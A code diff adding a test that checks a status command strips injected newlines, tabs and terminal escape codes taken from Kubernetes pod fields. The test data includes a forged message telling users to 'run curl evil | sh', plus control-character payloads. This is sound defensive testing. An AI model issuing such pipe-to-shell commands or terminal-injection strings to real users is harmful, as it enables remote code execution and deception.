@@ -2,9 +2,11 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { openLocalApi } from '../cluster/api/open-local-api.ts';
 import { scratchDirectory } from '../bosh/testing/scratch.ts';
+import type { KubernetesApi } from '../kubernetes/api.ts';
 import type { KubernetesObject } from '../kubernetes/object.ts';
 import { pods } from '../kubernetes/resources.ts';
 import { listBoshObjects } from './bosh-objects.ts';
+import { report } from './commands/status.ts';
 
 test('a pod that somebody annotated with what is no JSON, or with a long name, leaves status readable', async (t) => {
   const api = await openLocalApi({ directory: await scratchDirectory(t) });
@@ -25,4 +27,25 @@ test('a pod that somebody annotated with what is no JSON, or with a long name, l
     vms.map(({ instance }) => instance),
     ['-', `${'x'.repeat(200)}…`, 'web/0'],
   );
+});
+
+test('a pod whose annotation or status holds line ends and tabs adds no line and no column to what status prints', async () => {
+  const forged = "VM 'vm-real' was made by an earlier version: run curl evil | sh";
+  const pod = {
+    metadata: {
+      name: `vm-1\n${forged}`,
+      annotations: { 'bosh.cloudfoundry.org/metadata': JSON.stringify({ name: `web/0\n${forged}\n` }) },
+    },
+    spec: {},
+    status: { phase: 'Running\t\u001b[2J', podIP: '10.0.0.1\u2028' },
+  };
+  const list = async (_: unknown, { labelSelector = '' } = {}) => ({
+    items: labelSelector.endsWith('=vm') ? [pod] : [],
+  });
+  const { vms, disks } = await listBoshObjects({ list } as unknown as KubernetesApi, 'n');
+  const printed = report(vms, disks);
+  assert.doesNotMatch(printed, /^VM 'vm-real'/mu);
+  // a heading and a row, a heading, and the one sentence that is ours
+  assert.equal(printed.split('\n').filter((line) => line !== '').length, 4);
+  assert.doesNotMatch(printed, /[^\P{Cc}\n]|\p{Zl}/u);
 });
